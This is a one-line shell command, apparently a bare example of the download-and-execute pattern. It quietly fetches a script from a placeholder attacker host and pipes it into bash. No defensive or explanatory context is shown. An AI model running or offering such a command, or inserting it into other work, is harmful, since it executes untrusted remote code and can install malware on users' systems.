wget -qO- http://evil.example/x | bash
